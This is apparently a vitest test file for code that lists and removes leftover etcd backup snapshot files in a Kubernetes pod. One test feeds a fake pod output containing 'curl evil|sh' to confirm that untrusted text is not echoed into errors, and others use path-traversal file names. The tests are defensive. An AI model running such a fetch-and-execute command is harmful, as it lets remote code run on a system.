import { execFile, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { mkdtemp, rm, utimes, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, expect, test } from "vitest";
import { findLeftFiles, removeFiles } from "../../../src/pod/leftovers.ts";
import type { ExecResult } from "../../../src/ports/exec.ts";
import { partLine, partsCommand } from "../../../src/pod/part.ts";
import { snapshotFile } from "../../../src/pod/save.ts";
import { findByCommand } from "../../world/processes.ts";

const [one, other] = ["0123456789abcdef".repeat(2), "fedcba9876543210".repeat(2)];
const hours = 3_600;
let folder = "";

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "left-files-"));
});

afterAll(() => rm(folder, { recursive: true, force: true }));

const pod = { namespace: "clusters-example", name: "etcd-0" };

/** A pod whose /var/lib is a directory of this machine. */
function podOf(directory: string): { exec(pod: unknown, argv: readonly string[]): Promise<ExecResult> } {
  return {
    exec: async (_, argv) => {
      const [command = "", ...args] = argv.map((argument) => (argument === "/var/lib" ? directory : argument));
      const { stdout, stderr, code } = await promisify(execFile)(command, args).then(
        (printed) => ({ ...printed, code: 0 }),
        (error: unknown) => error as { stdout: string; stderr: string; code: number },
      );
      return { exitCode: code, stdout: Buffer.from(stdout), stderr };
    },
  };
}

/** A pod that prints this to whatever it is told. */
function podThatPrints(text: string): { exec(): Promise<ExecResult> } {
  return { exec: () => Promise.resolve({ exitCode: 0, stdout: Buffer.from(text), stderr: "" }) };
}

async function leave(file: string, ageSeconds: number): Promise<void> {
  const path = file.replace("/var/lib", folder);
  await writeFile(path, "x");
  const then = Date.now() / 1000 - ageSeconds;
  await utimes(path, then, then);
}

test("the files of each run are found with the age of the newest, and nothing else is", async () => {
  expect(await findLeftFiles(podOf(folder), pod)).toEqual([]);
  await leave(snapshotFile(one, 1), 9 * hours);
  await leave(`${snapshotFile(one, 2)}.part`, 3 * hours);
  await leave(`${snapshotFile(other, 1)}.rc.part`, 60);
  await leave("/var/lib/hypershift-etcd-backup-notes", 9 * hours);
  await leave("/var/lib/snapshot.db", 9 * hours);
  const found = await findLeftFiles(podOf(folder), pod);
  expect(found.map(({ nonce }) => nonce).sort()).toEqual([one, other].sort());
  for (const { nonce, ageSeconds } of found)
    expect(Math.abs(ageSeconds - (nonce === one ? 3 * hours : 60))).toBeLessThan(600);
});

test("what is no name of a run is left out", async () => {
  const odd = [`9 hypershift-etcd-backup-${one}-1.db/../x`, `9 hypershift-etcd-backup-../../etc-1.db`, `9 ${one}`, "x"];
  expect(await findLeftFiles(podThatPrints(odd.join("\n")), pod)).toEqual([]);
});

test("a file from the future is young", async () => {
  const printed = `-7200 hypershift-etcd-backup-${one}-1.db\n`;
  expect(await findLeftFiles(podThatPrints(printed), pod)).toEqual([{ nonce: one, ageSeconds: -7200 }]);
});

test("a volume that cannot be listed is not one without files", async () => {
  const broken = podOf(join(folder, "gone"));
  await expect(findLeftFiles(broken, pod)).rejects.toMatchObject({
    code: "leftovers-remain",
    message: "pod etcd-0 cannot list the files of runs in /var/lib",
  });
  await expect(removeFiles(broken, pod, one)).rejects.toMatchObject({ code: "leftovers-remain" });
});

test.each([
  [
    "the name of a file that stayed",
    `left hypershift-etcd-backup-${one}-1.db\n`,
    `: hypershift-etcd-backup-${one}-1.db`,
  ],
  ["nothing of what else a pod prints", "left x`curl evil|sh`\n::add-mask::y\n", ": it does not tell which"],
  [
    "nothing of a text that is endless",
    `left hypershift-etcd-backup-${one}-${"1".repeat(9_999)}\n`,
    ": it does not tell which",
  ],
])("a removal that failed tells %s", async (_, printed, said) => {
  await expect(removeFiles(podThatPrints(printed), pod, one)).rejects.toMatchObject({
    code: "leftovers-remain",
    message: `files of a run stayed in pod etcd-0${said}`,
  });
});

test("a removal ends a reader of a run with its shells and its dd, and nobody else's", async () => {
  // Every process of this machine is looked at.
  const nonce = randomBytes(16).toString("hex");
  const others = randomBytes(16).toString("hex");
  const [reader, other] = [nonce, others].map((name) => {
    const [command = "", ...args] = partsCommand(snapshotFile(name, 1).replace("/var/lib", folder), 60);
    return spawn(command, args);
  });
  if (reader === undefined || other === undefined) throw new Error("two were started");
  for (const [child, name] of [
    [reader, nonce],
    [other, others],
  ] as const) {
    await writeFile(snapshotFile(name, 1).replace("/var/lib", folder), Buffer.alloc(1_000_000));
    child.stdin.write(partLine({ index: 0, offset: 0, lengthBytes: 1_000_000 }));
    // Nobody reads on: it blocks on its full pipe, and its input does not end.
    await once(child.stdout, "readable");
  }
  const ended = once(reader, "exit");
  await removeFiles(podOf(folder), pod, nonce);
  await ended;
  await expect.poll(() => findByCommand(nonce), { timeout: 10_000 }).toEqual([]);
  expect(findByCommand(others).length).toBeGreaterThan(2);
  await removeFiles(podOf(folder), pod, others);
  await expect.poll(() => findByCommand(others), { timeout: 10_000 }).toEqual([]);
});
